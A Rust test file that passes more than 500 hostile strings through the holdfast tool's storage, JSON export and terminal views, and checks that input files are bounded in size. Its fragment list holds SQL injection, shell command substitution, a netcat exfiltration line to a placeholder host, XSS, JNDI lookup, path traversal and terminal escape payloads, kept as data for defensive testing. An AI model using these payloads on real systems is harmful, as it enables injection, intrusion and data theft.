//! Hostile strings as evidence: a generated set of more than 500 strings (controls,
//! escape sequences, bidi and invisible characters, zalgo, scripts, injections,
//! very long text), each written into all six provider-originated fields
//! (`error_type`, `provider_request_id`, `response_excerpt`, an observation's
//! note, `target`, `business_key`), ingested on SQLite and PostgreSQL. Every
//! string comes back byte-exact from the store, `show --json` and `export json`;
//! the terminal surfaces (`list`, `show`, `timeline`, the console) carry no
//! control or invisible character.

use crate::support;

use std::collections::BTreeSet;
use std::process::Command;

use crossterm::event::KeyCode;
use holdfast::store::IngestMode;
use holdfast::store::Scope;
use serde_json::{Value, json};
use support::console::Harness;
use support::hostile::forbidden;
use support::review::{SMALL, id, now, records};
use support::stores::{self, Kind};

/// The longest key field (`error_type`, `provider_request_id`, `business_key`).
const KEY_CHARS: usize = 128;

/// Hostile fragments, a few per class.
const ATOMS: &[&str] = &[
    // C0 controls, DEL, NUL
    "\u{0}",
    "nul\u{0}inside",
    "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}",
    "\u{7}bell",
    "back\u{8}\u{8}\u{8}\u{8}over",
    "tab\there",
    "line\nbreak",
    "\u{b}\u{c}",
    "carriage\rreturn",
    "\u{e}\u{f}\u{10}\u{11}\u{12}\u{13}\u{14}",
    "\u{15}\u{16}\u{17}\u{18}\u{19}\u{1a}",
    "\u{1c}\u{1d}\u{1e}\u{1f}",
    "del\u{7f}\u{7f}",
    // C1 controls
    "\u{80}\u{81}\u{84}\u{85}",
    "\u{9b}31mc1-csi",
    "\u{9d}0;c1 title\u{9c}",
    "\u{90}dcs\u{9c}\u{9e}pm\u{9c}\u{9f}apc\u{9c}",
    // ANSI CSI and OSC
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[1;1H\u{1b}[K",
    "\u{1b}[?1049h",
    "\u{1b}[6n",
    "\u{1b}[38;5;",
    "\u{1b}]0;title set\u{7}",
    "\u{1b}]2;title st\u{1b}\\",
    "\u{1b}]8;;https://example.invalid/\u{1b}\\link text\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;aGVsbG8=\u{7}",
    "\u{1b}Pq#0~~\u{1b}\\",
    "\u{1b}c",
    "\u{1b}",
    // bidi overrides and isolates, marks
    "\u{202e}txt.exe",
    "\u{202a}\u{202b}\u{202c}\u{202d}",
    "\u{2066}iso\u{2067}late\u{2068}d\u{2069}",
    "\u{200e}\u{200f}\u{61c}",
    // zero-width and invisible
    "zero\u{200b}width\u{200c}non\u{200d}joiner",
    "\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}",
    "\u{feff}bom",
    "soft\u{ad}hyphen",
    "\u{3164}\u{115f}\u{1160}",
    "\u{e0041}\u{e0042}\u{e007f}",
    "vs\u{fe0f}\u{fe00}\u{e0100}",
    "\u{fff9}ann\u{fffa}ot\u{fffb}",
    "\u{fffe}\u{ffff}",
    // line and paragraph separators
    "para\u{2028}line\u{2029}sep",
    // combining marks (zalgo)
    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}a\u{306}\u{307}\u{308}l\u{309}\u{30a}g\u{30b}o\u{30c}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{34f}grapheme joiner",
    // scripts
    "مرحبا بالعالم",
    "שלום עולם",
    "ܫܠܡܐ",
    "नमस्ते दुनिया",
    "こんにちは世界",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}",
    "\u{1f3f3}\u{fe0f}\u{200d}\u{1f308}",
    "\u{1f44d}\u{1f3fd}",
    // fullwidth and homoglyphs
    "ｆｕｌｌｗｉｄｔｈ",
    "раураl",
    "ΑΒΕΖΗΙΚΜΝΟ",
    "\u{2215}etc\u{2215}passwd",
    // injections
    "'; DROP TABLE operations; --",
    "\" OR 1=1 --",
    "Robert'); DELETE FROM audit WHERE ('1'='1",
    "$(touch /tmp/holdfast-naughty)",
    "`id`; ls -la | nc example.invalid 9",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "%s%s%s%n%x",
    "{0}{1}{{}}",
    "${jndi:ldap://example.invalid/a}",
    "{\"type\":\"operation\",\"id\":\"X\"}",
    "\",\"state\":\"SUCCEEDED",
    "\\u0000\\ud800\\udfff",
    "\\x1b[31m",
    "../../../../etc/hosts",
    "null",
    "undefined",
    "NaN",
    "-0",
    "1e400",
    " ",
    "  leading and trailing  ",
];

/// The shapes each atom is put in.
const SHAPES: usize = 7;

fn shaped(atom: &str, shape: usize, n: usize) -> String {
    match shape {
        0 => atom.to_owned(),
        1 => format!("ticket {atom} end"),
        2 => atom.repeat(3),
        3 => format!("{atom}-{n:04}"),
        4 => format!("שלום {atom} مرحبا"),
        5 => format!("{{\"k\":\"{atom}\"}}"),
        _ => atom.chars().rev().collect(),
    }
}

/// The generated set: every atom in every shape, then a few very long strings.
fn naughty() -> Vec<String> {
    let mut seen = BTreeSet::new();
    let mut all = Vec::new();
    for (n, atom) in ATOMS.iter().enumerate() {
        for shape in 0..SHAPES {
            let text = shaped(atom, shape, n);
            if seen.insert(text.clone()) {
                all.push(text);
            }
        }
    }
    let zalgo: String = (0..4000)
        .map(|i| char::from_u32(0x300 + (i % 0x70)).unwrap())
        .collect();
    for long in [
        "x".repeat(16_000),
        "\u{1b}[2J".repeat(4_000),
        format!("a{zalgo}"),
        "\u{202e}\u{200b}".repeat(2_000),
        "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}".repeat(600),
        ATOMS.concat(),
    ] {
        all.push(long);
    }
    all
}

/// What a key field keeps of `text`: its first 128 characters.
fn key(text: &str) -> String {
    text.chars().take(KEY_CHARS).collect()
}

/// The operation that carries string `n`.
fn op_id(n: usize) -> String {
    format!("N{n:04}")
}

/// One operation per string with an attempt and an observation, the string in
/// all six fields (a key field holds its first 128 characters).
fn packet(strings: &[String]) -> String {
    let template = |kind: &str| -> Value {
        SMALL
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .find(|v| v["type"] == kind)
            .unwrap()
    };
    let (operation, attempt, observation) = (
        template("operation"),
        template("attempt"),
        template("observation"),
    );
    let mut lines = vec![template("contract").to_string()];
    for (n, text) in strings.iter().enumerate() {
        let op = op_id(n);
        let mut o = operation.clone();
        o["id"] = json!(op);
        o["target"] = json!(text);
        o["business_key"] = json!(key(text));
        o["idempotency_key"] = json!(format!("k-{op}"));
        lines.push(o.to_string());
        let mut a = attempt.clone();
        a["id"] = json!(format!("A{op}"));
        a["operation"] = json!(op);
        a["error_type"] = json!(key(text));
        a["provider_request_id"] = json!(key(text));
        a["response_excerpt"] = json!(text);
        lines.push(a.to_string());
        let mut b = observation.clone();
        b["id"] = json!(format!("O{op}"));
        b["operation"] = json!(op);
        b["note"] = json!(text);
        lines.push(b.to_string());
    }
    lines.join("\n") + "\n"
}

#[test]
fn the_set_is_large_hostile_and_free_of_secret_shapes() {
    let strings = naughty();
    assert!(strings.len() >= 500, "{} strings", strings.len());
    let hostile = strings.iter().filter(|s| s.chars().any(forbidden)).count();
    assert!(
        hostile >= 300,
        "{hostile} hold a control or invisible character"
    );
    for text in &strings {
        assert_eq!(
            holdfast::core::redact::redact(text),
            text.as_str(),
            "a secret shape would be redacted, not given back"
        );
    }
}

/// Runs `holdfast ARGS` on the store at `url`; returns the exit code and stdout.
fn holdfast(dir: &std::path::Path, url: &str, args: &[&str]) -> (i32, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_holdfast"))
        .env_remove("HOLDFAST_DB")
        .env_remove("HOLDFAST_AS")
        .env_remove("HOLDFAST_DATABASE_URL")
        .env("HOLDFAST_DATA_DIR", dir)
        .env("HOLDFAST_CONFIG", dir.join("no-config.toml"))
        .env("NO_COLOR", "1")
        .args(["--database-url", url, "--now", "2026-09-05T10:10:00Z"])
        .args(args)
        .output()
        .expect("run holdfast");
    let stdout = String::from_utf8(output.stdout).expect("output is UTF-8");
    let code = output.status.code().unwrap_or(-1);
    assert_eq!(
        code,
        0,
        "{args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    (code, stdout)
}

/// Every string value in a JSON document.
fn strings_in(value: &Value, out: &mut BTreeSet<String>) {
    match value {
        Value::String(s) => {
            out.insert(s.clone());
        }
        Value::Array(items) => items.iter().for_each(|v| strings_in(v, out)),
        Value::Object(map) => map.values().for_each(|v| strings_in(v, out)),
        _ => {}
    }
}

/// Asserts a terminal surface holds no control or invisible character.
fn clean(surface: &str, text: &str) {
    if let Some(c) = text.chars().find(|c| forbidden(*c) && *c != '\n') {
        panic!("{surface} shows U+{:04X}", u32::from(c));
    }
}

async fn round_trip(kind: Kind) {
    let strings = naughty();
    let fresh = stores::fresh(kind).await;
    let report = fresh
        .store
        .ingest(
            records(&packet(&strings)),
            IngestMode::Strict,
            "feeder",
            now(),
        )
        .await
        .unwrap();
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);

    for (n, text) in strings.iter().enumerate() {
        let detail = fresh
            .store
            .detail(&Scope::Every, &id(&op_id(n)))
            .await
            .unwrap();
        let op = &detail.row.operation;
        let attempt = &detail.attempts[0];
        let observation = &detail.observations[0];
        let kept = [
            (op.target.as_str(), text.clone()),
            (op.business_key.as_deref().unwrap(), key(text)),
            (attempt.error_type.as_deref().unwrap(), key(text)),
            (attempt.provider_request_id.as_deref().unwrap(), key(text)),
            (attempt.response_excerpt.as_deref().unwrap(), text.clone()),
            (observation.note.as_deref().unwrap(), text.clone()),
        ];
        for (field, (stored, given)) in kept.iter().enumerate() {
            assert_eq!(*stored, given.as_str(), "string {n}, field {field}");
        }
    }

    let dir = tempfile::tempdir().unwrap();
    let run = |args: &[&str]| holdfast(dir.path(), &fresh.url, args).1;
    // `export` redacts as it goes, which takes its time over 64 KiB strings in a
    // debug build: every tenth operation and the long ones.
    let long = strings.len() - 6..strings.len();
    let sample: Vec<usize> = (0..strings.len()).step_by(10).chain(long.clone()).collect();
    let ids: Vec<String> = sample.iter().map(|&n| op_id(n)).collect();
    let mut args = vec!["export", "--format", "json"];
    args.extend(ids.iter().map(String::as_str));
    let mut exported = BTreeSet::new();
    strings_in(&serde_json::from_str(&run(&args)).unwrap(), &mut exported);
    for &n in &sample {
        assert!(exported.contains(&strings[n]), "export json: string {n}");
        assert!(exported.contains(&key(&strings[n])), "export json: key {n}");
    }
    clean("list", &run(&["list", "--state", "all"]));
    for n in (0..strings.len()).step_by(60).chain(long) {
        let op = op_id(n);
        let mut shown = BTreeSet::new();
        strings_in(
            &serde_json::from_str(&run(&["show", &op, "--json"])).unwrap(),
            &mut shown,
        );
        assert!(shown.contains(&strings[n]), "show --json: string {n}");
        clean("show", &run(&["show", &op]));
        clean("timeline", &run(&["timeline", &op]));
    }
    let head = fresh.store.head_seq().await.unwrap();
    assert!(matches!(
        fresh.store.verify().await.unwrap(),
        holdfast::core::audit::ChainStatus::Intact { rows, .. } if rows == head
    ));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn naughty_strings_round_trip_exactly_on_sqlite_and_never_reach_the_terminal() {
    round_trip(Kind::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn naughty_strings_round_trip_exactly_on_postgres_and_never_reach_the_terminal() {
    skip_without_postgres!();
    round_trip(Kind::Postgres).await;
}

/// The console: the queue, paged through to its end, and on each page the
/// detail of the operation under the selection.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_console_shows_naughty_operations_without_a_control_character() {
    let strings = naughty();
    let mut h = Harness::new(&packet(&strings), 160, 48).await;
    h.key(KeyCode::Char('g')).await;
    let mut seen = BTreeSet::new();
    let mut opened = 0;
    while !h.ids().iter().all(|id| seen.contains(id)) {
        clean("the queue", &h.screen());
        seen.extend(h.ids());
        let selected = h.selected().unwrap();
        h.key(KeyCode::Enter).await;
        clean(&format!("the detail of {selected}"), &h.screen());
        h.key(KeyCode::Esc).await;
        opened += 1;
        h.key(KeyCode::PageDown).await;
    }
    let all: BTreeSet<String> = (0..strings.len()).map(op_id).collect();
    let missing: Vec<&String> = all.difference(&seen).collect();
    assert!(missing.is_empty(), "not on screen: {missing:?}");
    assert!(opened >= 10, "{opened} details");
}

// Bounded inputs: every file the CLI reads is refused past its documented bound
// (docs/security.md, "Bounded inputs"), naming the file, the line where it matters and the
// limit, before it can grow memory. `/dev/zero` stands for a file that never ends.

/// A file of `n` bytes of `byte`, never ending a line.
fn endless_line(dir: &std::path::Path, name: &str, n: usize) -> String {
    let path = dir.join(name);
    std::fs::write(&path, vec![b'x'; n]).unwrap();
    path.display().to_string()
}

/// One built-in drill case line with its `operation` fields replaced.
fn case_with(operation: Value) -> String {
    let seed = holdfast::drill::SEED_CASES.lines().next().unwrap();
    let mut case: Value = serde_json::from_str(seed).unwrap();
    case["id"] = json!("BIG1");
    for (k, v) in operation.as_object().unwrap() {
        case["operation"][k] = v.clone();
    }
    case.to_string()
}

#[test]
fn hostile_case_files_are_refused_by_file_line_and_limit() {
    let cli = support::cli::Cli::empty();
    let dir = cli.dir.path();
    let drill = |path: &str| cli.run("drill-runner", &["drill", "--cases", path]);
    if std::path::Path::new("/dev/zero").exists() {
        let run = drill("/dev/zero").expect_code(2);
        assert!(
            run.stderr
                .contains("case file /dev/zero is larger than 4194304 bytes (4 MiB)"),
            "{}",
            run.stderr
        );
    }
    let huge = endless_line(dir, "huge.jsonl", 300 * 1024);
    let run = drill(&huge).expect_code(2);
    assert!(
        run.stderr
            .contains("line 1: -: line is 307200 bytes long; at most 262144"),
        "{}",
        run.stderr
    );

    let items = dir.join("items.jsonl");
    std::fs::write(
        &items,
        case_with(json!({"items": 4_294_967_295u64, "dependents": 101, "concurrent": 33})),
    )
    .unwrap();
    let run = drill(items.to_str().unwrap()).expect_code(2);
    for needle in [
        "line 1: operation.items: 4294967295 is more than the limit of 1000",
        "line 1: operation.dependents: 101 is more than the limit of 100",
        "line 1: operation.concurrent: 33 is more than the limit of 32",
    ] {
        assert!(run.stderr.contains(needle), "{needle}: {}", run.stderr);
    }
    let mut long_budget: Value = serde_json::from_str(&case_with(json!({}))).unwrap();
    long_budget["contract"]["budget_seconds"] = json!(4_294_967_295u64);
    let budget = dir.join("budget.jsonl");
    std::fs::write(&budget, long_budget.to_string()).unwrap();
    let run = drill(budget.to_str().unwrap()).expect_code(2);
    assert!(
        run.stderr.contains(
            "line 1: contract.budget_seconds: 4294967295 is more than the limit of 2592000"
        ),
        "{}",
        run.stderr
    );
    let at_limit = dir.join("limit.jsonl");
    std::fs::write(&at_limit, case_with(json!({"items": 1000}))).unwrap();
    let parsed = holdfast::sim::parse_cases(&std::fs::read_to_string(&at_limit).unwrap());
    assert!(parsed.is_ok(), "the limit itself is allowed: {parsed:?}");

    let many = dir.join("many.jsonl");
    std::fs::write(&many, "{}\n".repeat(1_500)).unwrap();
    let run = drill(many.to_str().unwrap()).expect_code(2);
    assert!(
        run.stderr.contains("line 1001: -: more than 1000 cases"),
        "{}",
        run.stderr
    );
    assert!(
        !run.stderr.contains("line 1002:"),
        "it stops at the bound: {}",
        run.stderr
    );
    assert!(!cli.db.exists(), "nothing ran");
}

#[test]
fn a_digest_file_is_read_as_a_small_prefix_only() {
    let cli = support::cli::Cli::with("small.jsonl");
    let huge = endless_line(cli.dir.path(), "digest", 5_000);
    let run = cli
        .run("auditor", &["audit", "verify", "--digest", &huge])
        .expect_code(2);
    assert!(
        run.stderr.contains(&format!(
            "digest file {huge} is larger than 4096 bytes (4 KiB)"
        )),
        "{}",
        run.stderr
    );
    if std::path::Path::new("/dev/zero").exists() {
        let run = cli
            .run("auditor", &["audit", "verify", "--digest", "/dev/zero"])
            .expect_code(2);
        assert!(
            run.stderr
                .contains("digest file /dev/zero is larger than 4096 bytes"),
            "{}",
            run.stderr
        );
    }
}

#[test]
fn work_completion_and_observation_files_are_bounded_in_bytes_and_records() {
    let cli = support::cli::Cli::with("small.jsonl");
    let dir = cli.dir.path();
    let huge = endless_line(dir, "huge.jsonl", 4 * 1024 * 1024 + 1);
    let attempt = |n: usize| {
        format!(
            r#"{{"type":"attempt","id":"F10-A{n}","operation":"F10","seq":{n},"kind":"request","started_at":"2026-09-05T10:10:00Z","phase":"not_sent","outcome":"rejected"}}"#
        )
    };
    let many = dir.join("many.jsonl");
    let lines: Vec<String> = (1..=10_001).map(attempt).collect();
    std::fs::write(&many, lines.join("\n")).unwrap();
    let many = many.display().to_string();
    let zero = std::path::Path::new("/dev/zero").exists();
    for (what, args) in [
        (
            "work completion file",
            vec!["work", "complete", "F10", "--worker", "w1"],
        ),
        (
            "observation file",
            vec![
                "review",
                "F09",
                "reconcile",
                "--rationale",
                "checked",
                "--observation",
            ],
        ),
    ] {
        let run_on = |path: &str| {
            let mut all = args.clone();
            all.push(path);
            cli.run("maya", &all).expect_code(2)
        };
        let run = run_on(&huge);
        assert!(
            run.stderr.contains(&format!(
                "{what} {huge} is larger than 4194304 bytes (4 MiB)"
            )),
            "{what}: {}",
            run.stderr
        );
        let run = run_on(&many);
        assert!(
            run.stderr.contains(&format!(
                "{what} {many}: line 10001: more than 10000 records"
            )),
            "{what}: {}",
            run.stderr
        );
        if zero {
            let run = run_on("/dev/zero");
            assert!(
                run.stderr.contains("/dev/zero is larger than"),
                "{what}: {}",
                run.stderr
            );
        }
    }
}

#[test]
fn config_and_ingest_inputs_that_never_end_are_refused() {
    let cli = support::cli::Cli::empty();
    let config = endless_line(cli.dir.path(), "config.toml", 1024 * 1024 + 1);
    let run = cli
        .command("maya", &["list"])
        .env("HOLDFAST_CONFIG", &config)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert_ne!(run.status.code(), Some(0));
    assert!(
        stderr.contains(&format!(
            "config file {config} is larger than 1048576 bytes (1 MiB)"
        )),
        "{stderr}"
    );
    if std::path::Path::new("/dev/zero").exists() {
        let run = cli.run("loader", &["ingest", "/dev/zero"]);
        assert_ne!(run.code, 0);
        assert!(
            run.stderr.contains("/dev/zero: not a regular file"),
            "{}",
            run.stderr
        );
    }
    // An input of nothing but bad lines is given up at the bound, nothing kept.
    let bad = cli.dir.path().join("bad.jsonl");
    std::fs::write(
        &bad,
        "x\n".repeat(holdfast::bounded::INGEST_REFUSED_LINES + 5),
    )
    .unwrap();
    let rejects = cli.dir.path().join("rejects.jsonl");
    let run = cli
        .run(
            "loader",
            &[
                "ingest",
                bad.to_str().unwrap(),
                "--rejects",
                rejects.to_str().unwrap(),
            ],
        )
        .expect_code(2);
    assert!(
        run.stderr
            .contains("line 100001: more than 100000 lines refused"),
        "{}",
        run.stderr
    );
    assert!(!rejects.exists(), "nothing written");
}
